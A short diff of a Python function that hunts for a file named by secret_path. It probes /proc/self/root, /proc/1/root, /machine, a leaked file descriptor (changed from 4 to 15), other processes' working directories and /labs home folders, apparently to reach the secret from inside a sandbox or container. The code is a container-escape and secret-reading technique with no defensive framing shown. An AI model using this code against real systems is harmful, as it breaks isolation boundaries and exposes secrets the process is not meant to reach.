@@ -9,9 +9,9 @@
 import os
 
 def read():
-    roots = ["", "/machine", "/proc/self/root", "/proc/1/root", "/proc/self/fd/4", "/proc/self/cwd/../.."]
+    roots = ["", "/machine", "/proc/self/root", "/proc/1/root", "/proc/self/fd/15", "/proc/self/cwd/../.."]
     paths = [root + secret_path for root in roots]
-    homes = ["/home/user", "/tmp", "/dev/shm", "/proc/self/fd/4/home", "/proc/self/fd/4/tmp", "/proc/1/cwd"]
+    homes = ["/home/user", "/tmp", "/dev/shm", "/proc/self/fd/15/home", "/proc/self/fd/15/tmp", "/proc/1/cwd"]
     try:
         homes += [f"/labs/{one}/{part}" for one in os.listdir("/labs") for part in ("", "home", "0/home")]
         homes += [f"/proc/{one}/cwd" for one in os.listdir("/proc") if one.isdigit()]
